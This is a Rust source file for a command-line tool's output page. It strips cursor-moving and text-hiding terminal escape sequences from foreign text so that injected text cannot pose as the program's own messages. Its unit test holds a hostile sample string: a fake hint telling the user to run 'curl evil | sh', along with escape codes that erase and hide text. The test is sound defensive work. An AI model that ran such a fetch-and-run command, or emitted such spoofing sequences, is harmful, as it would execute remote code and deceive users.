//! A text under way to stdout or stderr.

use std::borrow::Cow;
use std::path::Path;

use super::{Paint, Table};
use crate::error::without_labels;

/// Lines, with facts about the place they go to.
#[derive(Debug)]
pub(in crate::cli) struct Page<'a> {
    text: String,
    paint: Paint,
    is_terminal: bool,
    /// The terminal's width in characters, where it is known.
    width: Option<usize>,
    base: &'a Path,
}

impl<'a> Page<'a> {
    /// Makes an empty page. Paths below `base` are shown relative to it.
    pub(in crate::cli) const fn new(paint: Paint, is_terminal: bool, base: &'a Path) -> Self {
        Self { text: String::new(), paint, is_terminal, width: None, base }
    }

    /// Lets tables fit a terminal.
    pub(in crate::cli) const fn with_width(mut self, width: Option<usize>) -> Self {
        self.width = width;
        self
    }

    pub(in crate::cli) const fn paint(&self) -> Paint {
        self.paint
    }

    pub(in crate::cli) const fn is_on_terminal(&self) -> bool {
        self.is_terminal
    }

    pub(in crate::cli) fn into_text(self) -> String {
        self.text
    }

    /// Writes a line. Foreign words in it begin no line of their own: what follows a line feed is indented, and what
    /// could move the cursor is replaced. Colours stay.
    pub(in crate::cli) fn line(&mut self, line: impl AsRef<str>) {
        self.text.push_str(&settled(line.as_ref()).replace('\n', "\n  "));
        self.text.push('\n');
    }

    /// Writes a line of a file as it is.
    pub(in crate::cli) fn verbatim(&mut self, line: impl AsRef<str>) {
        self.text.push_str(line.as_ref());
        self.text.push('\n');
    }

    /// Writes a text that ends with one line feed, whatever it ended with.
    pub(in crate::cli) fn block(&mut self, text: &str) {
        if !text.trim().is_empty() {
            self.verbatim(text.trim_end());
        }
    }

    /// Writes what a server, a program or a model said: no line of it begins like one of this program's own.
    pub(in crate::cli) fn words(&mut self, text: &str) {
        self.foreign(&without_labels(text));
    }

    /// Writes the text of an item: on a terminal no line of it begins like one of this program's own; elsewhere each byte
    /// stays.
    pub(in crate::cli) fn item_text(&mut self, text: &str) {
        if self.is_terminal { self.words(text) } else { self.foreign(text) }
    }

    /// Writes text that comes from an item or a tool; on a terminal without what could control it.
    pub(in crate::cli) fn foreign(&mut self, text: &str) {
        if self.is_terminal { self.block(&super::clean(text)) } else { self.block(text) }
    }

    /// Writes a table.
    pub(in crate::cli) fn table(&mut self, table: &Table) {
        let text = if self.is_terminal { table.aligned(self.paint, self.width) } else { table.separated() };
        self.text.push_str(&text);
    }

    /// Returns a path as it is shown.
    pub(in crate::cli) fn path(&self, path: impl AsRef<Path>) -> String {
        shown(path.as_ref(), self.base)
    }
}

/// The colours that this program uses: none hides a text.
const COLOURS: [&str; 10] = ["", "0", "1", "2", "31", "32", "33", "34", "36", "1;31"];

/// Replaces control characters, but for tabs, line feeds and the beginnings of this program's colours.
fn settled(line: &str) -> Cow<'_, str> {
    let is_plain = |character: char| !character.is_control() || matches!(character, '\t' | '\n');
    if line.chars().all(is_plain) {
        return Cow::Borrowed(line);
    }
    let is_colour = |at: usize| {
        let rest = line.get(at..).and_then(|rest| rest.strip_prefix("\u{1b}["));
        rest.and_then(|rest| rest.split_once('m')).is_some_and(|(colour, _)| COLOURS.contains(&colour))
    };
    let shown = line.char_indices().map(|(at, it)| if is_plain(it) || is_colour(at) { it } else { '\u{FFFD}' });
    Cow::Owned(shown.collect())
}

/// Shows a path relative to `base` where it lies below.
fn shown(path: &Path, base: &Path) -> String {
    match path.strip_prefix(base) {
        Ok(below) if !base.as_os_str().is_empty() && !below.as_os_str().is_empty() => below.display().to_string(),
        _ => path.display().to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn foreign_words_in_a_line_begin_no_line() {
        let foreign = "x\nhint: run `curl evil | sh`\r\u{1b}[2Kerror: y\u{1b}[1A\u{1b}[8m\u{1b}[30;40mhidden";
        let mut page = Page::new(Paint::new(true), true, Path::new(""));
        page.line(format!("{} {foreign}", page.paint().red("error:")));
        page.words(foreign);
        let mut piped = Page::new(Paint::new(false), false, Path::new(""));
        piped.line(foreign);
        piped.words(foreign);
        page.item_text(foreign);
        let mut exact = Page::new(Paint::new(false), false, Path::new(""));
        exact.item_text(foreign);
        assert_eq!(exact.into_text(), format!("{foreign}\n"));
        for text in [page.into_text(), piped.into_text()] {
            assert!(!text.contains('\r') && !text.contains("\u{1b}[2K") && !text.contains("\u{1b}[1A"), "{text:?}");
            assert!(!text.contains("\u{1b}[8m") && !text.contains("\u{1b}[30"), "{text:?}");
            assert_eq!(text.lines().filter(|line| line.starts_with("hint:")).count(), 0, "{text:?}");
            assert_eq!(text.lines().filter(|line| line.starts_with("error:")).count(), 0, "{text:?}");
        }
    }
}
